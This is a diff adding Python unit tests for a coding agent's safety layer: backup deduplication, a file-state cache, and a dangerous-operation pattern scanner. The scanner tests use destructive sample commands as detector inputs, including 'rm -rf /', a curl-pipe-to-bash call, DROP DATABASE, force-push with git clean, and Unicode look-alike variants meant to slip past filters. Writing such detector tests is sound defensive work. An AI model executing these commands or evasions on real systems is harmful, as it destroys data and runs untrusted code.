@@ -1,8 +1,11 @@
 """安全性・バックアップシステムの単体テスト"""
 
+import json
+import os
 import pytest
 import tempfile
 import subprocess
+import time
 from datetime import datetime
 from pathlib import Path
 from unittest.mock import Mock, AsyncMock, patch, MagicMock
@@ -10,8 +13,9 @@ from unittest.mock import Mock, AsyncMock, patch, MagicMock
 from nocturnal_agent.safety.backup_manager import (
     BackupManager, BackupType, BackupInfo
 )
+from nocturnal_agent.safety.file_state import FileStateCache
 from nocturnal_agent.safety.danger_detector import (
-    DangerDetector, DangerPattern, DangerLevel, DangerDetection
+    DangerDetector, DangerPattern, DangerLevel, DangerDetection, DangerPatternScanner, compile_danger_patterns
 )
 from nocturnal_agent.safety.rollback_manager import (
     RollbackManager, RollbackPoint, RollbackType, RollbackOperation
@@ -101,6 +105,167 @@ class TestBackupManager:
             assert key in status
 
 
+class TestContentAddressedBackups:
+    """コンテンツアドレス方式のバックアップストアのテスト"""
+    
+    @pytest.fixture
+    def backup_manager(self, git_repo):
+        """バックアップ先をプロジェクト内の除外ディレクトリにしたBackupManager"""
+        (git_repo / 'src').mkdir()
+        for i in range(5):
+            (git_repo / 'src' / f'module_{i}.py').write_text(f"VALUE = {i}\n")
+        (git_repo / 'src' / 'copy.py').write_text("VALUE = 0\n")
+        (git_repo / 'node_modules').mkdir()
+        (git_repo / 'node_modules' / 'dep.js').write_text("ignored")
+        
+        # 直前に書き込んだファイルはハッシュをキャッシュしないため更新時刻を過去にする
+        past = time.time() - 3600
+        for path in git_repo.rglob('*.py'):
+            os.utime(path, (past, past))
+        
+        config = {
+            'backup_root': str(git_repo / '.nocturnal' / 'backups'),
+            'max_backups': 10
+        }
+        return BackupManager(str(git_repo), config)
+    
+    def blob_count(self, backup_manager):
+        return sum(1 for path in backup_manager.content_store.objects_dir.glob('*/*'))
+    
+    @pytest.mark.asyncio
+    async def test_unchanged_files_are_deduplicated(self, backup_manager):
+        """変更のないファイルが再保存・再ハッシュされないことのテスト"""
+        first = await backup_manager.create_backup(BackupType.FULL, backup_id='first')
+        
+        # test.py と src/ の6ファイル（同一内容の copy.py は1ブロブ）
+        assert first.file_count == 7
+        assert first.verification_status == "verified"
+        assert self.blob_count(backup_manager) == 6
+        
+        # 2回目はファイルを読み直さない（一時ファイルへのコピーも発生しない）
+        with patch('nocturnal_agent.safety.backup_store.tempfile.mkstemp') as mkstemp:
+            second = await backup_manager.create_backup(BackupType.FULL, backup_id='second')
+        mkstemp.assert_not_called()
+        
+        assert second.verification_status == "verified"
+        assert second.integrity_hash == first.integrity_hash
+        assert self.blob_count(backup_manager) == 6
+    
+    @pytest.mark.asyncio
+    async def test_restore_from_manifest(self, backup_manager, git_repo, temp_dir):
+        """マニフェストからの復元テスト"""
+        first = await backup_manager.create_backup(BackupType.FULL, backup_id='first')
+        (git_repo / 'src' / 'module_1.py').write_text("VALUE = 'changed'\n")
+        await backup_manager.create_backup(BackupType.FULL, backup_id='second')
+        
+        assert self.blob_count(backup_manager) == 7
+        
+        restored, errors = backup_manager.restore_files(first, git_repo)
+        
+        assert errors == []
+        assert 'src/module_1.py' in restored
+        assert (git_repo / 'src' / 'module_1.py').read_text() == "VALUE = 1\n"
+    
+    @pytest.mark.asyncio
+    async def test_corrupt_blob_fails_verification(self, backup_manager):
+        """破損したブロブで検証が失敗することのテスト"""
+        backup = await backup_manager.create_backup(BackupType.FULL, backup_id='first')
+        blob = next(backup_manager.content_store.objects_dir.glob('*/*'))
+        blob.chmod(0o644)
+        blob.write_text("tampered")
+        
+        assert await backup_manager.verify_backup(backup) is False
+    
+    @pytest.mark.asyncio
+    async def test_cleanup_collects_unreferenced_blobs(self, backup_manager, git_repo):
+        """古いバックアップ削除時に参照されないブロブが回収されることのテスト"""
+        backup_manager.max_backups = 1
+        await backup_manager.create_backup(BackupType.FULL, backup_id='first')
+        (git_repo / 'src' / 'module_1.py').write_text("VALUE = 'changed'\n")
+        latest = await backup_manager.create_backup(BackupType.FULL, backup_id='second')
+        
+        assert [b.backup_id for b in backup_manager.backup_history] == ['second']
+        assert self.blob_count(backup_manager) == 6
+        assert await backup_manager.verify_backup(latest) is True
+
+    
+    @pytest.mark.asyncio
+    async def test_incremental_backup_uses_git_changes(self, backup_manager, git_repo):
+        """インクリメンタルバックアップがgitの変更情報から対象を決めることのテスト"""
+        subprocess.run(['git', 'add', '.'], cwd=git_repo, check=True, capture_output=True)
+        subprocess.run(['git', 'commit', '-m', 'add src'], cwd=git_repo, check=True, capture_output=True)
+        await backup_manager.create_backup(BackupType.FULL, backup_id='full')
+        
+        (git_repo / 'src' / 'module_2.py').write_text("VALUE = 'committed'\n")
+        subprocess.run(['git', 'commit', '-am', 'change'], cwd=git_repo, check=True, capture_output=True)
+        (git_repo / 'src' / 'module_3.py').write_text("VALUE = 'dirty'\n")
+        (git_repo / 'src' / 'new.py').write_text("VALUE = 'new'\n")
+        
+        with patch.object(backup_manager, '_iter_project_files') as walk:
+            incremental = await backup_manager.create_backup(BackupType.INCREMENTAL, backup_id='inc')
+        walk.assert_not_called()
+        
+        manifest = json.loads((Path(incremental.backup_path) / 'manifest.json').read_text())
+        assert sorted(manifest['files']) == ['src/module_2.py', 'src/module_3.py', 'src/new.py']
+
+
+class TestFileStateCache:
+    """ファイル状態キャッシュのテスト"""
+    
+    def backdate(self, *paths):
+        past = time.time() - 3600
+        for path in paths:
+            os.utime(path, (past, past))
+    
+    def test_only_changed_files_rehashed(self, temp_dir):
+        """statが変わったファイルだけ再ハッシュされることのテスト"""
+        for i in range(10):
+            (temp_dir / f"file_{i}.txt").write_text(f"content {i}")
+        (temp_dir / '.hidden').mkdir()
+        (temp_dir / '.hidden' / 'secret.txt').write_text("skip")
+        self.backdate(*temp_dir.rglob('*.txt'))
+        include = lambda rel_path: not rel_path.startswith('.')
+        
+        cache = FileStateCache(temp_dir)
+        first = cache.snapshot(include)
+        assert len(first) == 10
+        assert cache.hashed_files == 10
+        
+        (temp_dir / 'file_3.txt').write_text("changed")
+        self.backdate(temp_dir / 'file_3.txt')
+        second = FileStateCache(temp_dir).snapshot(include)
+        
+        assert second['file_3.txt'] != first['file_3.txt']
+        assert {k: v for k, v in second.items() if k != 'file_3.txt'} == \
+            {k: v for k, v in first.items() if k != 'file_3.txt'}
+        
+        reloaded = FileStateCache(temp_dir)
+        reloaded.snapshot(include)
+        assert reloaded.hashed_files == 0
+    
+    def test_git_fast_path(self, git_repo):
+        """gitリポジトリでは変更のないファイルをstatせずに再利用することのテスト"""
+        (git_repo / '.gitignore').write_text("build/\n")
+        (git_repo / 'build').mkdir()
+        (git_repo / 'build' / 'out.bin').write_text("ignored")
+        (git_repo / 'untracked.py').write_text("x = 1")
+        self.backdate(git_repo / 'test.py', git_repo / 'untracked.py', git_repo / '.gitignore')
+        
+        cache = FileStateCache(git_repo)
+        first = cache.snapshot(lambda rel_path: True)
+        assert set(first) == {'test.py', 'untracked.py', '.gitignore'}
+        
+        subprocess.run(['git', 'add', '.'], cwd=git_repo, check=True, capture_output=True)
+        subprocess.run(['git', 'commit', '-m', 'more'], cwd=git_repo, check=True, capture_output=True)
+        cache.snapshot(lambda rel_path: True)
+        
+        with patch('nocturnal_agent.safety.file_state.os.stat', side_effect=AssertionError("stat")):
+            assert cache.snapshot(lambda rel_path: True) == first
+        
+        (git_repo / 'test.py').write_text("# modified")
+        assert cache.snapshot(lambda rel_path: True)['test.py'] != first['test.py']
+
+
 class TestDangerDetector:
     """危険操作検出システムのテスト"""
     
@@ -185,6 +350,61 @@ class TestDangerDetector:
             assert key in status
 
 
+class TestDangerPatternScanner:
+    """一括パターンスキャナーのテスト"""
+    
+    SAMPLES = [
+        "import os\nos.system('rm -rf /')\n",
+        "subprocess.run('curl http://x | bash', shell=True)\nRM -RF *.log",
+        "PASSWORD = 'hunter2hunter2'\nquery('SELECT ' + name)\nDROP   DATABASE prod",
+        "\u017fervice nginx stop  # 非ASCII文字を含むコード\n\u212aILL -9 1 ",
+        "git push origin main --force; git clean -fdx; export PATH=/tmp/bin",
+        "def format_report(items):\n    return [item for item in items]\n",
+    ]
+    
+    def test_scan_matches_findall(self):
+        """スキャン結果がパターンごとのfindallと一致することのテスト"""
+        detector = DangerDetector({})
+        signature = detector._pattern_signature(detector.danger_patterns)
+        scanner = DangerPatternScanner(signature + (('grouped', r'(sudo)\s+(\w+)', 0),))
+        
+        for sample in self.SAMPLES:
+            expected = {}
+            for entry in scanner.entries:
+                found = entry.regex.findall(sample)
+                if found:
+                    expected[entry.name] = found
+            assert scanner.scan(sample) == expected, sample
+        
+        # 先頭リテラルを持つパターンは候補位置だけで照合される
+        anchored = {entry.name for entry in scanner.entries if entry.anchors}
+        assert {'rm_recursive', 'database_drop', 'grouped'} <= anchored
+    
+    def test_scanner_rebuilt_only_when_pattern_set_changes(self):
+        """パターン集合が変わったときだけ再構築されることのテスト"""
+        detector = DangerDetector({})
+        compile_danger_patterns.cache_clear()
+        
+        detector.analyze_code("print('hello')")
+        detector.analyze_command("ls -la")
+        assert compile_danger_patterns.cache_info().misses == 1
+        
+        detector.disable_pattern('rm_recursive')
+        assert not detector.analyze_code("rm -rf /").detected_patterns
+        assert compile_danger_patterns.cache_info().misses == 2
+        
+        detector.add_custom_pattern(DangerPattern(
+            name="drop_table",
+            pattern=r"drop\s+table",
+            danger_level=DangerLevel.HIGH,
+            description="Table drop",
+            category="database"
+        ))
+        detection = detector.analyze_code("DROP TABLE users")
+        assert [p.name for p in detection.detected_patterns] == ['drop_table']
+        assert compile_danger_patterns.cache_info().misses == 3
+
+
 class TestRollbackManager:
     """ロールバック管理システムのテスト"""
     